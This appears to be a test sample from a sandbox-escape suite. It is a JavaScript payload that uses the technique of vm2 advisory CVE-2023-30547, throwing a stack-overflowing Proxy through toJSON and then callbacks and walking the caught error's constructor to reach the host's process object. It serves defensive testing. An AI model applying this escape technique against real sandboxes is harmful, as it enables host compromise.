/*---
id: re-sanitizer-throw-03-through-api
description: "Throws the overflowing Proxy out of a callback that the injected API invokes (a toJSON during console.log, a then during await), then catches whatever reaches the guest and walks its constructor."
kind: malicious
category: realm-escape
technique: RE-sanitizer-throw
variant: combined
references:
  - "CVE-2023-30547"
unproven: "Not proven against a vulnerable target: the sample tests the advisory's technique, not its published trigger. On vm2 3.9.19, the one vulnerable sandbox the suite installs, it gives no oracle evidence."
expect:
  ultra-secure: { outcome: contained, value: "held" }
  high-security: { outcome: contained, value: "held" }
  tenant-isolated: { outcome: contained, value: "held" }
flags: [async]
---*/
const boom = () => { (function r() { r(); })(); };
const evil = new Proxy({}, { getPrototypeOf: boom, get: (t, key) => (key === 'then' ? undefined : boom()) });
const sinks = [
  () => console.log({ toJSON() { throw evil; } }),
  async () => { await { then() { throw evil; } }; },
];
for (const sink of sinks) {
  try { await sink(); } catch (err) {
    try {
      const c = Reflect.getPrototypeOf(err) === null ? undefined : err.constructor;
      if (c && c.constructor('return typeof process')() !== 'undefined') return 'ESCAPED';
    } catch (e) {}
  }
}
return 'held';
